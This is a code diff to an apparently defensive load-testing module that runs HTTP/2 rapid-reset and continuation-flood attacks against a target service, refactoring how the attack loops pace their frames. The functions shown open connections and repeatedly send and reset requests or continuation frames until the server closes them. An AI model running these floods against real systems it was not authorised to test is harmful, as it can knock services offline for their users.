@@ -18,7 +18,9 @@ from hostile.http2 import (
 from hostile.target import GET, HEALTH_WATCH, LARGE_SEVERITY, LIST, Target
 
 _ONE_SECOND = 1.0
+# About what sending a group takes at full speed.
 _FRAME_SECONDS = 0.001
+_RESETS = 4
 _GET = pb.GetRequest(incident_id="INC-20260507-99ADF2").SerializeToString()
 
 
@@ -57,14 +59,19 @@ async def rapid_resets(target: Target) -> str:
         nonlocal calls
         closed = asyncio.ensure_future(connection.closed())
         while not closed.done():
-            for _ in range(target.number(100)):
+            for _ in range(_RESETS):
                 connection.reset(connection.call(GET, _GET))
                 calls += 1
             await connection.drain()
-            await asyncio.sleep(0)
+            await _pause(target)
 
     closed = await _connections(target, 4, attack)
     return f"{closed}, {calls} calls"
+
+
+async def _pause(target: Target) -> None:
+    """Wait between two frames, or groups of them: at full scale not at all, else for a rate of the scale."""
+    await asyncio.sleep(0 if target.scale >= 1 else _FRAME_SECONDS / target.scale)
 
 
 async def continuations(target: Target) -> str:
@@ -78,8 +85,7 @@ async def continuations(target: Target) -> str:
         while not closed.done():
             connection.send(part)
             await connection.drain()
-            # At full scale without a pause; else at a rate for the scale.
-            await asyncio.sleep(0 if target.scale >= 1 else _FRAME_SECONDS / target.scale)
+            await _pause(target)
 
     return await _connections(target, 4, attack)
 
